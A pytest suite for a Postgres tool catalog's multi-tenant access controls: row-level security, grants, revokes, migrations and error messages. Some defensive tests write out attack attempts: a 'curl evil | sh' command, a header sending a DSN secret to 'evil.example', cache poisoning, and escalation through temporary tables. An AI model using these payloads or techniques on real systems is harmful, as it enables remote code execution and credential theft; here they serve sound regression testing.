"""Tenants enforced by Postgres: real roles see and change only the catalogs granted to them."""

from __future__ import annotations

import ast
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator

import psycopg
import pytest
from psycopg import sql
from psycopg.conninfo import make_conninfo

import toolstore._bulk_load
import toolstore._indexes
import toolstore._sql
from toolstore import (
    DatabaseError,
    HashingEmbedder,
    InvalidInputError,
    SchemaAccessError,
    Tool,
    ToolStore,
    UnknownCatalogError,
)

from catalog_gen import generated_queries, generated_tools


@pytest.fixture
def roles(dsn: str) -> Iterator[dict[str, str]]:
    """Login roles (cluster-wide, so uniquely named and dropped afterwards): name -> a DSN that logs in as it."""
    names = {k: f"ts_{k}_{uuid.uuid4().hex[:8]}" for k in ("reader", "writer", "tenant", "nobody")}
    with psycopg.connect(dsn, autocommit=True) as conn:
        for name in names.values():
            conn.execute(sql.SQL("create role {} login").format(sql.Identifier(name)))
    yield {k: make_conninfo(dsn, user=v) for k, v in names.items()} | {f"{k}_name": v for k, v in names.items()}
    with psycopg.connect(dsn, autocommit=True) as conn:
        for name in names.values():
            conn.execute(sql.SQL("drop owned by {}").format(sql.Identifier(name)))
            conn.execute(sql.SQL("drop role {}").format(sql.Identifier(name)))


def store_as(dsn: str, catalog: str, **options: object) -> ToolStore:
    return ToolStore(dsn, embedder=HashingEmbedder(32), catalog=catalog, migrate=False, **options)  # type: ignore[arg-type]


def test_a_granted_role_sees_only_its_catalogs(dsn: str, roles: dict[str, str]) -> None:
    query = generated_queries(1)[0]
    with store_as(dsn, "alpha") as alpha, store_as(dsn, "beta") as beta:
        alpha.upsert(generated_tools(30, seed=1))
        beta.upsert(generated_tools(30, seed=2))
        alpha.grant(roles["reader_name"])
        beta.grant(roles["writer_name"], write=True)
        assert {(g["catalog"], g["role"], g["write"]) for g in alpha.grants()} >= {
            ("alpha", roles["reader_name"], False),
            ("beta", roles["writer_name"], True),
        }
    with store_as(roles["reader"], "alpha", create=False) as reader:
        assert len(reader.route(query)) > 0 and reader.info().n_tools == 30
        with pytest.raises(DatabaseError):  # read-only: no write privilege
            reader.upsert(generated_tools(2, seed=9))
    with store_as(roles["reader"], "beta", create=False) as reader:
        with pytest.raises(UnknownCatalogError, match="no catalog named 'beta'"):
            reader.route(query)
        assert [c["name"] for c in reader.catalogs()] == ["alpha"]
    with psycopg.connect(roles["reader"]) as conn:  # raw SQL sees only alpha's rows, in every table
        for table in ("tools", "postings", "lexeme_stats", "field_stats", "tool_vectors"):
            ids = conn.execute(sql.SQL("select distinct catalog_id from toolstore.{}").format(sql.Identifier(table)))
            assert len(ids.fetchall()) == 1, table
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("select * from toolstore.catalog_grants")
    with store_as(roles["writer"], "beta", create=False) as writer:
        report = writer.upsert(generated_tools(5, seed=3))
        assert report.inserted and writer.info().n_tools == 35
        writer.remove(generated_tools(5, seed=3)[0].id)
        first, second = (t.id for t in generated_tools(30, seed=2)[:2])
        assert writer.record_calls("s1", [first, second]) == 2  # the session log is the writer's too
        assert [c.tool_id for c in writer.session_log("s1")] == [first, second]
        looked_back = writer.route(query, session="s1", k=40, weights={"recent": 1.0})
        assert looked_back.session == "s1" and any(r.signals.recent for r in looked_back)
    with store_as(roles["reader"], "alpha", create=False) as reader:
        with pytest.raises(DatabaseError):  # read-only: it cannot log calls either
            reader.record_calls("s1", [generated_tools(30, seed=1)[0].id])
    with psycopg.connect(roles["reader"]) as conn:  # and sees no session of beta
        for table in ("sessions", "session_calls", "session_seen_calls", "tool_transitions"):
            n = conn.execute(sql.SQL("select count(*) from toolstore.{}").format(sql.Identifier(table))).fetchone()
            assert n == (0,), table
    with store_as(roles["writer"], "gamma") as writer, pytest.raises(DatabaseError):
        writer.upsert(generated_tools(2))  # only the owner creates catalogs
    with pytest.raises(SchemaAccessError, match="no USAGE privilege on schema"):
        store_as(roles["nobody"], "alpha", create=False)  # no grant at all: not even the schema


def test_a_read_only_role_that_writes_is_told_its_grant_does_not_allow_it(dsn: str, roles: dict[str, str]) -> None:
    """A read-only role's write read "database error: permission denied for table catalogs", which says neither why
    nor what to do (README: `grant ROLE --write` lets a role change its catalogs and log its sessions); the error
    says what a role's grant lets it do and how the owner grants a write."""
    with store_as(dsn, "alpha") as alpha:
        alpha.upsert(generated_tools(3, seed=1))
        alpha.grant(roles["reader_name"])
    with store_as(roles["reader"], "alpha", create=False) as reader:
        for write in (
            lambda: reader.upsert(generated_tools(2, seed=9)),
            lambda: reader.record_calls("s1", [generated_tools(3, seed=1)[0].id]),
        ):
            with pytest.raises(DatabaseError, match=r"permission denied .*: on toolstore's tables a role's grant") as e:
                write()
            assert "grant ROLE --write" in str(e.value)


def test_every_table_of_the_schema_has_row_level_security_but_the_global_ones(dsn: str, roles: dict[str, str]) -> None:
    """A table that holds a catalog's rows and has no policy would leak them to every granted role: every table of the
    schema (a catalog's vector partitions too) has row-level security and a policy for each command, but the global
    ones named here, which hold no catalog's rows or are no granted role's to read."""
    with store_as(dsn, "alpha") as alpha:
        alpha.upsert(generated_tools(3))  # its vector partitions
        alpha.grant(roles["reader_name"], write=True)
    with psycopg.connect(dsn) as conn:
        rows = conn.execute(
            """
            select c.relname, c.relrowsecurity, c.relispartition,
                   (select array_agg(distinct p.polcmd::text order by p.polcmd::text)
                    from pg_policy p where p.polrelid = c.oid),
                   has_table_privilege(%s, c.oid, 'select')
            from pg_class c join pg_namespace n on n.oid = c.relnamespace
            where n.nspname = 'toolstore' and c.relkind in ('r', 'p', 'f', 'v', 'm')
            """,
            [roles["reader_name"]],
        ).fetchall()
    shared = {"embedding_cache": True, "toolstore_alembic_version": True}  # no catalog's rows: every grant reads them
    private = {"catalog_grants": False, "tenant_roles": False}  # the grants: no granted role reads them
    tables = {name: (rls, partition, policies, readable) for name, rls, partition, policies, readable in rows}
    assert {"tools", "sessions", "session_seen_calls", "anchors", "tool_vectors_c1"} <= tables.keys()
    assert {name: readable for name, (rls, *_, readable) in tables.items() if not rls} == shared | private
    unguarded = {  # a partition is read through its parent's policies: with none of its own, it shows nothing
        name: policies
        for name, (rls, partition, policies, _) in tables.items()
        if rls and not partition and policies != ["a", "d", "r", "w"]
    }
    assert unguarded == {}


def test_a_tenant_role_sees_the_catalog_its_connection_names(dsn: str, roles: dict[str, str]) -> None:
    with store_as(dsn, "alpha") as alpha, store_as(dsn, "beta") as beta:
        alpha.upsert(generated_tools(20, seed=1))
        beta.upsert(generated_tools(10, seed=2))
        alpha.grant(roles["tenant_name"], tenant=True)
    for catalog, n in (("alpha", 20), ("beta", 10)):
        with store_as(roles["tenant"], catalog, create=False) as tenant:
            assert tenant.info().n_tools == n
            assert [c["name"] for c in tenant.catalogs()] == [catalog]
    with psycopg.connect(roles["tenant"]) as conn:
        conn.execute("set toolstore.tenant = 'alpha'")
        assert conn.execute("select count(distinct catalog_id) from toolstore.tools").fetchone() == (1,)
        conn.execute("set toolstore.tenant = 'nope'")
        assert conn.execute("select count(*) from toolstore.tools").fetchone() == (0,)


def test_revoking_the_last_grant_takes_the_privileges_away(dsn: str, roles: dict[str, str]) -> None:
    with store_as(dsn, "alpha") as alpha:
        alpha.upsert(generated_tools(5))
        alpha.grant(roles["reader_name"])
        assert alpha.revoke(roles["reader_name"]) is True
        assert alpha.revoke(roles["reader_name"]) is False
        with pytest.raises(InvalidInputError, match="no database role named"):
            alpha.grant("no_such_role_here")
        with alpha.connection() as conn:
            owner = conn.execute("select tableowner from pg_tables where tablename = 'tools'").fetchone()[0]
        for call in (alpha.grant, alpha.revoke):  # the owner's own privileges are not the grants' to set
            with pytest.raises(InvalidInputError, match=f"role '{owner}' owns toolstore's tables"):
                call(owner)
    with pytest.raises(SchemaAccessError, match="no USAGE privilege on schema"):
        store_as(roles["reader"], "alpha", create=False)


def test_a_granted_writer_leaves_index_maintenance_to_the_owner(
    dsn: str, roles: dict[str, str], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """CREATE/DROP INDEX need the table's owner: a writer's import that brings the catalog to HNSW_MIN_ROWS vectors
    (here 20), or a bulk load that would drop the index first (here over 10 vectors), succeeds without touching the
    index and warns; routes stay correct (exact search), and the owner's next write builds the index."""
    monkeypatch.setattr(toolstore._indexes, "HNSW_MIN_ROWS", 20)
    monkeypatch.setattr(toolstore._bulk_load, "BULK_VECTORS", 10)
    tools = generated_tools(60, seed=4)

    def indexes(store: ToolStore) -> list[tuple[str, bool]]:
        with store.connection() as conn:
            rows = conn.execute(toolstore._sql.query("vector_indexes"), {"catalog": store.info().id})
            return [(table, valid) for _, table, valid in rows]

    with store_as(dsn, "alpha") as owner:
        owner.upsert(tools[:5])
        owner.grant(roles["writer_name"], write=True)
        with store_as(roles["writer"], "alpha", create=False) as writer:
            assert len(writer.upsert(tools[5:30]).inserted) == 25
            assert "does not own the catalog's vector tables" in caplog.text and "upsert([])" in caplog.text
            cli = "toolstore -c alpha export --with-metadata -o FILE, then toolstore -c alpha import FILE"
            assert f"on the command line, as that role: {cli})" in caplog.text
            assert indexes(owner) == []
            assert writer.route(generated_queries(1)[0], k=3).dense_used
            owner.upsert([])
            assert indexes(owner) == [("tool_vectors", True)]
            caplog.clear()
            assert len(writer.upsert(tools[30:]).inserted) == 30  # a bulk load: the index is not dropped first
            assert "HNSW indexes not dropped before a bulk load" in caplog.text
            assert indexes(owner) == [("tool_vectors", True)] and owner.info().n_tools == 60


def test_grants_made_before_an_upgrade_cover_the_tables_it_creates(dsn: str, roles: dict[str, str]) -> None:
    """Grants made at an older revision, then toolstore upgraded: the tables the upgrade creates (the session log,
    0006; anchors, 0008) had no privileges for the granted roles, so every route of theirs failed with "permission
    denied for table anchors" until each grant was made again."""
    from toolstore import migrate

    tools = generated_tools(20, seed=1)
    with store_as(dsn, "alpha") as owner:
        owner.upsert(tools)
        owner.grant(roles["reader_name"])
        owner.grant(roles["writer_name"], write=True)
    migrate(dsn, revision="0005", downgrade=True)  # the grants stay (0005's tables), the later tables go
    migrate(dsn)
    query = generated_queries(1)[0]
    with store_as(roles["reader"], "alpha", create=False) as reader:
        assert len(reader.route(query)) > 0
        with pytest.raises(DatabaseError):  # still read-only
            reader.record_calls("s1", [tools[0].id])
    with store_as(roles["writer"], "alpha", create=False) as writer:
        assert writer.record_calls("s1", [tools[0].id, tools[1].id]) == 2
        assert writer.route(query, session="s1").session == "s1"
    with psycopg.connect(roles["reader"]) as conn, pytest.raises(psycopg.errors.InsufficientPrivilege):
        conn.execute("select * from toolstore.catalog_grants")  # and still not the grants


def test_a_granted_role_cannot_plant_vectors_in_the_shared_embedding_cache(dsn: str, roles: dict[str, str]) -> None:
    """``embedding_cache`` is read by every catalog's writes (keyed by model and sha256 of the text): a granted role,
    even read-only, could insert a vector for a text another tenant would later import, and that tenant's tool got
    the planted vector. Only the owner writes the cache now; granted roles read it, and still import and evaluate."""
    from toolstore._text import dense_text
    from toolstore._vectors import text_hash

    model, planted = HashingEmbedder(32).model, "[" + ",".join(["1"] * 32) + "]"
    victim = Tool(id="bank.transfer", name="transfer_funds", description="Move money between a customer's accounts")
    with store_as(dsn, "alpha") as owner:
        owner.upsert(generated_tools(5, seed=1))
        owner.grant(roles["reader_name"])
        owner.grant(roles["writer_name"], write=True)
    for login in ("reader", "writer"):
        with psycopg.connect(roles[login]) as conn:
            try:
                conn.execute(
                    "insert into toolstore.embedding_cache (model, text_sha256, embedding) values (%s, %s, %s)",
                    [model, text_hash(dense_text(victim)), planted],
                )
                conn.commit()
            except (psycopg.errors.InsufficientPrivilege, psycopg.errors.UniqueViolation):  # refused; planted
                pass
    with store_as(dsn, "beta") as other, other.connection() as conn:  # another tenant imports that tool
        other.upsert([victim])
        vector = conn.execute(
            "select v.embedding = %s::vector from tool_vectors v where v.catalog_id = %s", [planted, other.info().id]
        ).fetchall()
        assert vector == [(False,)]  # its own text's vector, not the planted one
        assert conn.execute(
            "select count(*) from embedding_cache where embedding = %s::vector", [planted]
        ).fetchone() == (0,)
    with store_as(roles["writer"], "alpha", create=False) as writer:  # a granted writer's import embeds uncached
        assert writer.upsert(generated_tools(3, seed=3)).inserted
        assert writer.route(generated_queries(1)[0], k=3).dense_used
    with store_as(roles["reader"], "alpha", create=False) as reader:
        assert len(reader.route(generated_queries(1)[0], k=3)) > 0


def test_a_granted_writer_updates_only_the_catalog_columns_its_writes_need(dsn: str, roles: dict[str, str]) -> None:
    """A --write grant covered every column of ``catalogs``: the writer could rename its catalog (the owner's
    application then found no catalog), or set its id, version or creation date. It may update only what the write
    path writes (model, dimension, settings, updated_at; the version trigger bumps the version), and every write a
    writer may make still works: imports, removals, examples, settings, tuning, anchors, sessions, expansions, a
    model switch."""
    from toolstore import Anchor, IntentExample, Judgement
    from toolstore._expand import expand

    tools = generated_tools(30, seed=2)
    with store_as(dsn, "beta") as owner:
        owner.upsert(tools[:20])
        owner.grant(roles["writer_name"], write=True)
        version = owner.info().version
    with psycopg.connect(roles["writer"], autocommit=True) as conn:
        for change in ("name = 'renamed'", "version = 1", "created_at = now()", "id = default"):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute(f"update toolstore.catalogs set {change} where name = 'beta'")
    query = generated_queries(1)[0]
    with store_as(roles["writer"], "beta", create=False) as writer:
        assert len(writer.upsert(tools[20:]).inserted) == 10
        writer.remove(tools[0].id)
        assert writer.add_examples([IntentExample(tools[1].id, query)]) == 1
        writer.set_fusion(weights={"name": 1.0, "description": 1.0, "dense": 1.0})
        examples = [(q, Judgement(qid=str(i), relevant=(tools[i + 1].id,))) for i, q in enumerate(generated_queries(6))]
        writer.tune(examples, folds=2)
        assert writer.add_anchors([Anchor(r"\bsend\b", tools[2].id, 0.5)])
        assert writer.record_calls("s1", [tools[1].id, tools[2].id]) == 2
        assert expand(writer, offline=True, progress=False).updated
        assert writer.reembed(HashingEmbedder(16))["to_model"] == HashingEmbedder(16).model
        assert writer.route(query, k=3).dense_used
        info = writer.info()
        assert info.version > version and info.embed_dim == 16 and "fusion" in info.settings
    with ToolStore(dsn, embedder=None, catalog="beta", migrate=False, create=False) as owner:
        assert owner.info().n_tools == 29


def test_a_migration_to_head_sets_the_grants_privileges_again_even_at_head(dsn: str, roles: dict[str, str]) -> None:
    """Privileges a role got from an older toolstore (here UPDATE on every column of ``catalogs``) stayed until the
    role was granted again: a migration to head set them again only when it applied a revision, and a release that
    narrows them adds none. Now a migration to head run by the tables' owner sets them again; a granted role may
    still run one (it changes nothing)."""
    from toolstore import migrate
    from toolstore._migrate import HEAD_REVISION

    with store_as(dsn, "beta") as owner:
        owner.upsert(generated_tools(5))
        owner.grant(roles["writer_name"], write=True)
        with owner.connection() as conn:  # what an older toolstore granted
            conn.execute(sql.SQL("grant update on catalogs to {}").format(sql.Identifier(roles["writer_name"])))
    assert migrate(roles["writer"]) == HEAD_REVISION
    assert migrate(dsn) == HEAD_REVISION
    with psycopg.connect(roles["writer"], autocommit=True) as conn, pytest.raises(psycopg.errors.InsufficientPrivilege):
        conn.execute("update toolstore.catalogs set name = 'renamed' where name = 'beta'")
    with store_as(roles["writer"], "beta", create=False) as writer:
        assert writer.upsert(generated_tools(3, seed=3)).inserted


#: The revision at which the digest of what says what a grant carries (``role_access`` and the ``privileges_*`` blocks
#: of sql/access.sql, and ``_migrate.set_privileges``, which picks them) was last pinned: a change of it must come with
#: a later revision. (The digest read ``ast.dump``, which differs by Python, until it was re-pinned at 0026 with
#: :func:`code_shape`: the SQL and code were those of 0026.)
PRIVILEGES_REVISION = ("0026", "4809efb9b85f440d")


def code_shape(node: object) -> str:
    """The syntax tree ``node`` as text the same on every Python: each node's type and the fields that hold something
    (a constant's value always; a load or store context left out). ``ast.dump`` differs by version (3.12 adds a
    function's empty ``type_params``, 3.13 leaves out empty fields), and so does ``ast.unparse`` (3.10 writes ``a, b =
    c`` as ``(a, b) = c``)."""
    if isinstance(node, ast.AST):
        fields = [
            f"{name}={code_shape(value)}"
            for name, value in ast.iter_fields(node)
            if (isinstance(node, ast.Constant) and name == "value") or not _empty(value)
        ]
        return f"{type(node).__name__}({', '.join(fields)})"
    if isinstance(node, list):
        return f"[{', '.join(code_shape(item) for item in node)}]"
    return repr(node)


def _empty(value: object) -> bool:
    """Whether a syntax tree's field holds nothing :func:`code_shape` says: None, an empty list, a context."""
    return value is None or (isinstance(value, list) and not value) or isinstance(value, ast.expr_context)


def test_code_shape_is_the_same_on_every_python() -> None:
    """What the digest reads of the code: the one text on Python 3.10 to 3.13 (ast.dump's was another on 3.12 and on
    3.13 than on 3.11, so the pinned digest held on 3.10 and 3.11 alone)."""
    code = ast.parse("def f(a, *b) -> None:\n    x, y = g(a, *b)\n    x.z = y[0]\n").body[0]
    assert code_shape(code) == (
        "FunctionDef(name='f', args=arguments(args=[arg(arg='a')], vararg=arg(arg='b')), body=[Assign(targets=[Tuple("
        "elts=[Name(id='x'), Name(id='y')])], value=Call(func=Name(id='g'), args=[Name(id='a'), Starred(value=Name("
        "id='b'))])), Assign(targets=[Attribute(value=Name(id='x'), attr='z')], value=Subscript(value=Name(id='y'), "
        "slice=Constant(value=0)))], returns=Constant(value=None))"
    )


def test_what_a_grant_carries_changes_only_with_a_revision() -> None:
    """A store opened with ``migrate=True`` sets the grants' privileges only when it migrates (a migration to head
    sets them for every granted role): setting them at every open would cost each owner's open a GRANT per granted
    role, under the migrations' lock. So a change of what a grant carries must come with a revision, which every
    such open then applies: this fails when the SQL changes and the pinned pair above is not moved to a new head."""
    import hashlib
    import inspect

    from toolstore._migrate import HEAD_REVISION, set_privileges

    blocks = ("role_access", "privileges_revoke", "privileges_read", "privileges_write")
    code = ast.parse(inspect.getsource(set_privileges)).body[0]
    assert isinstance(code, ast.FunctionDef)
    code.body = code.body[1:]  # its docstring says nothing a grant carries
    said = "".join(toolstore._sql.query(b) for b in blocks) + code_shape(code)
    digest = hashlib.sha256(said.encode()).hexdigest()[:16]
    revision, pinned = PRIVILEGES_REVISION
    if digest != pinned:
        assert revision != HEAD_REVISION, (
            f"what a grant carries changed (digest {digest}) without a revision: add a migration, then pin "
            f"PRIVILEGES_REVISION = (its revision, {digest!r})"
        )
        pytest.fail(f"pin PRIVILEGES_REVISION = ({HEAD_REVISION!r}, {digest!r}): the privileges changed at this head")


def test_a_grant_waits_for_the_lock_of_what_else_sets_the_grants_privileges(dsn: str, roles: dict[str, str]) -> None:
    """Two GRANTs on one table at once fail ("tuple concurrently updated"), so a grant or revoke made while a migration
    set the grants' privileges could fail. Each now takes the migrations' lock first: it waits for the one held here,
    then succeeds."""
    from concurrent.futures import ThreadPoolExecutor

    from toolstore._migrate import _LOCK_KEY

    waiting = (  # this database's: a server given by $TOOLSTORE_TEST_DSN may serve other tests (xdist workers)
        "select count(*) from pg_locks where locktype = 'advisory' and not granted"
        " and database = (select oid from pg_database where datname = current_database())"
    )
    with store_as(dsn, "delta") as owner, ThreadPoolExecutor(1) as pool:
        owner.upsert(generated_tools(3))
        for change, args in ((owner.grant, (roles["reader_name"],)), (owner.revoke, (roles["reader_name"],))):
            with psycopg.connect(dsn) as holder, psycopg.connect(dsn, autocommit=True) as watcher:
                holder.execute("select pg_advisory_xact_lock(%s)", [_LOCK_KEY])  # a migration setting privileges
                done = pool.submit(change, *args)
                deadline = time.monotonic() + 30
                while watcher.execute(waiting).fetchone() != (1,):
                    assert time.monotonic() < deadline and not done.done(), "the grant did not wait for the lock"
                    time.sleep(0.05)
                holder.rollback()
            done.result()
        assert owner.grants() == []


def test_a_role_revoked_while_its_store_is_open_is_told_which_privilege_it_lacks(
    dsn: str, roles: dict[str, str]
) -> None:
    """Revoked while its store was open, a role's next call failed with 'function route_catalog(smallint, smallint)
    does not exist' or 'relation "catalogs" does not exist': without USAGE on the schema, Postgres leaves it off the
    search_path. The DatabaseError now says the role lacks USAGE on toolstore's schema, on both stores."""
    import asyncio

    from toolstore import AsyncToolStore

    query, name = generated_queries(1)[0], roles["writer_name"]
    with store_as(dsn, "alpha") as owner:
        owner.upsert(generated_tools(10))
        owner.grant(name, write=True)
        missing = f"role '{name}' has no USAGE privilege on schema 'toolstore'"
        with store_as(roles["writer"], "alpha", create=False) as writer:
            assert len(writer.route(query)) > 0
            owner.revoke(name)
            for call in (lambda: writer.route(query), writer.info, lambda: writer.upsert(generated_tools(2, seed=5))):
                with pytest.raises(DatabaseError, match=missing) as error:
                    call()
                assert "does not exist" not in str(error.value)
            owner.grant(name)
            assert len(writer.route(query)) > 0  # granted again: the same store works again

        async def routes() -> None:
            store = AsyncToolStore(roles["writer"], embedder=HashingEmbedder(32), catalog="alpha", migrate=False)
            async with store:
                assert len(await store.route(query)) > 0
                owner.revoke(name)
                for call in (lambda: store.route(query), store.info):
                    with pytest.raises(DatabaseError, match=missing):
                        await call()

        asyncio.run(routes())


def test_a_role_without_a_grant_is_told_how_to_get_one(dsn: str, roles: dict[str, str]) -> None:
    """A role with no grant opening a store (or migrating) read "cannot connect to the database: permission denied
    for schema toolstore", as if the server were unreachable. It is now a SchemaAccessError (a DatabaseError) that
    says the role has no access to toolstore's schema and how the owner grants one, on both stores."""
    import asyncio

    from toolstore import AsyncToolStore, migrate

    name = roles["nobody_name"]
    told = rf"role '{name}' has no USAGE privilege on schema 'toolstore'.*`toolstore -c CATALOG grant {name}`"
    with store_as(dsn, "alpha") as owner:
        owner.upsert(generated_tools(3))
    for opening in (lambda: store_as(roles["nobody"], "alpha", create=False), lambda: migrate(roles["nobody"])):
        with pytest.raises(SchemaAccessError, match=told) as error:
            opening()
        assert "permission denied" not in str(error.value) and "cannot connect" not in str(error.value)

    async def opens() -> None:
        async with AsyncToolStore(roles["nobody"], embedder=None, catalog="alpha", migrate=False):
            pass

    with pytest.raises(SchemaAccessError, match=told):
        asyncio.run(opens())


def test_visible_catalogs_tells_a_role_only_its_own(dsn: str, roles: dict[str, str]) -> None:
    """visible_catalogs(role, write), the policies' SECURITY DEFINER function, answered for any role it was given: a
    granted role learnt which catalog ids another role sees (and, through a tenant role, the id of any catalog by
    name). Each role now gets only its own: another role's name (that it is no member of) gives no catalog."""
    with store_as(dsn, "alpha") as alpha, store_as(dsn, "beta") as beta:
        alpha.upsert(generated_tools(3, seed=1))
        beta.upsert(generated_tools(3, seed=2))
        alpha.grant(roles["reader_name"])
        beta.grant(roles["writer_name"], write=True)
        beta.grant(roles["tenant_name"], tenant=True)
        ids = {"alpha": alpha.info().id, "beta": beta.info().id}
    asked = "select toolstore.visible_catalogs(%s, %s)"
    for login, own, other in (("reader", "alpha", "writer"), ("writer", "beta", "reader")):
        with psycopg.connect(roles[login], autocommit=True) as conn:
            conn.execute("set toolstore.tenant = 'alpha'")
            assert conn.execute(asked, [roles[f"{login}_name"], False]).fetchone() == ([ids[own]],)
            assert conn.execute("select count(*) from toolstore.catalogs").fetchone() == (1,)  # the policies still
            for role in (roles[f"{other}_name"], roles["tenant_name"]):
                for write in (False, True):
                    assert conn.execute(asked, [role, write]).fetchone() == ([],), (login, role, write)
    with psycopg.connect(roles["writer"], autocommit=True) as conn:
        assert conn.execute(asked, [roles["writer_name"], True]).fetchone() == ([ids["beta"]],)


def test_only_the_owner_prunes_the_shared_embedding_cache(dsn: str, roles: dict[str, str]) -> None:
    """Row-level security shows a granted role its catalogs only, so every other catalog's model would look unused
    to it: a prune by it is refused, even with DELETE on the cache, and deletes nothing."""
    with store_as(dsn, "alpha") as alpha, ToolStore(dsn, embedder=HashingEmbedder(64), catalog="beta") as beta:
        alpha.upsert(generated_tools(5, seed=1))
        beta.upsert(generated_tools(5, seed=2))
        alpha.grant(roles["writer_name"], write=True)
        with alpha.connection() as conn:
            conn.execute(sql.SQL("grant delete on embedding_cache to {}").format(sql.Identifier(roles["writer_name"])))
            cached = conn.execute("select count(*) from embedding_cache").fetchone()
    with store_as(roles["writer"], "alpha", create=False) as writer:
        with pytest.raises(DatabaseError, match="may not prune the embedding cache: only the owner"):
            writer.prune_cache()
    with store_as(dsn, "alpha", create=False) as owner, owner.connection() as conn:
        assert conn.execute("select count(*) from embedding_cache").fetchone() == cached
        assert owner.prune_cache() == 0


def test_a_granted_role_cannot_grant_itself_every_catalog_with_temporary_tables(
    dsn: str, roles: dict[str, str]
) -> None:
    """visible_catalogs(), SECURITY DEFINER, read its tables by unqualified names, and Postgres searches a session's
    temporary schema first unless the search_path names pg_temp: a read-only role's temporary ``catalog_grants``
    (any role may create temporary tables) granted it every catalog, to read and write. Its search_path now ends with
    pg_temp, and so must every SECURITY DEFINER function's of the schema."""
    with store_as(dsn, "alpha") as alpha, store_as(dsn, "beta") as beta:
        alpha.upsert(generated_tools(3, seed=1))
        beta.upsert(generated_tools(4, seed=2))
        alpha.grant(roles["reader_name"])
        ids = [alpha.info().id, beta.info().id]
    with psycopg.connect(roles["reader"], autocommit=True) as conn:
        conn.execute("create temp table catalog_grants (catalog_id integer, role text, can_write boolean)")
        conn.execute("insert into catalog_grants select unnest(%s::integer[]), current_user, true", [ids])
        conn.execute("create temp table tenant_roles (role text, can_write boolean)")
        conn.execute("insert into tenant_roles values (current_user, true)")
        conn.execute("set toolstore.tenant = 'beta'")
        assert conn.execute("select count(*), count(distinct catalog_id) from toolstore.tools").fetchone() == (3, 1)
        assert conn.execute("select name from toolstore.catalogs").fetchall() == [("alpha",)]
        with pytest.raises(psycopg.errors.InsufficientPrivilege):  # no write grant, and none planted
            conn.execute("delete from toolstore.tools")
    with psycopg.connect(dsn) as conn:
        unpinned = conn.execute(
            """
            select p.proname, p.proconfig
            from pg_proc p join pg_namespace n on n.oid = p.pronamespace
            where n.nspname = 'toolstore' and p.prosecdef
              and not coalesce(p.proconfig[array_upper(p.proconfig, 1)] ~ '^search_path=.*pg_temp$', false)
            """
        ).fetchall()
    assert unpinned == []


def test_only_the_owner_records_how_the_gateway_reaches_an_upstream(dsn: str, roles: dict[str, str]) -> None:
    """The gateway starts a stdio upstream's recorded command, and expands ``${VAR}`` in its env, arguments and headers
    from its own environment: a ``--write`` role that could write ``mcp_upstreams`` ran any command on the gateway's
    host, or sent its environment's secrets to a URL of its choosing. Only the owner records upstreams; a writer's
    sync is refused, nothing written, and it still imports tools."""
    from toolstore._mcp_sync import McpListing, Upstream, sync_listing

    tool = {"name": "forecast", "description": "Weather forecast", "inputSchema": {"type": "object"}}
    with store_as(dsn, "alpha") as alpha:
        sync_listing(alpha, McpListing("weather", [tool], Upstream("stdio", command="weather-server")))
        alpha.grant(roles["writer_name"], write=True)
    with psycopg.connect(roles["writer"], autocommit=True) as conn:
        for statement in (
            "update toolstore.mcp_upstreams set command = 'sh', args = '{-c,\"curl evil | sh\"}'",
            "insert into toolstore.mcp_upstreams (catalog_id, provider, transport, url, headers) select id, 'x', "
            "'http', 'https://evil.example', '{\"X\": \"${TOOLSTORE_DSN}\"}' from toolstore.catalogs",
        ):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute(statement)
        assert conn.execute("select command from toolstore.mcp_upstreams").fetchall() == [("weather-server",)]
    with store_as(roles["writer"], "alpha", create=False) as writer:
        listing = McpListing("docs", [tool], Upstream("stdio", command="sh", args=("-c", "true")))
        with pytest.raises(DatabaseError, match="only the owner of toolstore's tables records"):
            sync_listing(writer, listing)
        assert [t.id for t in writer.tools()] == ["weather.forecast"]
        sync_listing(writer, McpListing("docs", [tool]))  # no upstream to record: its tools only
        assert [t.id for t in writer.tools()] == ["docs.forecast", "weather.forecast"]


def test_revoking_from_a_role_that_does_not_exist_says_so_and_changes_nothing(dsn: str, roles: dict[str, str]) -> None:
    """``toolstore revoke ROLE`` of a role that does not exist said 'no database role named ... (create it first:
    CREATE ROLE ... LOGIN)': advice to create a role only to take its grant away. It says the role does not exist and
    has no grant, names it, exit 1, and the grants are as they were (a dropped role's leftover grant is listed, and
    revoked: nothing else can remove it)."""
    with store_as(dsn, "alpha") as alpha:
        alpha.upsert(generated_tools(5))
        alpha.grant(roles["reader_name"])
        before = alpha.grants()
    command = [sys.executable, "-m", "toolstore", "--dsn", dsn, "-c", "alpha"]
    for tenant in ([], ["--tenant"]):
        done = subprocess.run([*command, "revoke", "no_such_role_here", *tenant], capture_output=True, text=True)
        assert done.returncode == 1, done
        assert done.stderr.strip() == "error: no database role named 'no_such_role_here': it has no grant to revoke"
    with store_as(dsn, "alpha") as alpha:
        assert alpha.grants() == before
        with pytest.raises(InvalidInputError, match="no database role named 'gone_role'.*no grant to revoke"):
            alpha.revoke("gone_role")
        with alpha.connection() as conn:  # a grant whose role was dropped since (DROP OWNED BY, then DROP ROLE)
            conn.execute(
                "insert into catalog_grants (catalog_id, role, can_write) select id, 'gone_role', false "
                "from catalogs where name = 'alpha'"
            )
        assert alpha.revoke("gone_role") is True
        assert alpha.grants() == before
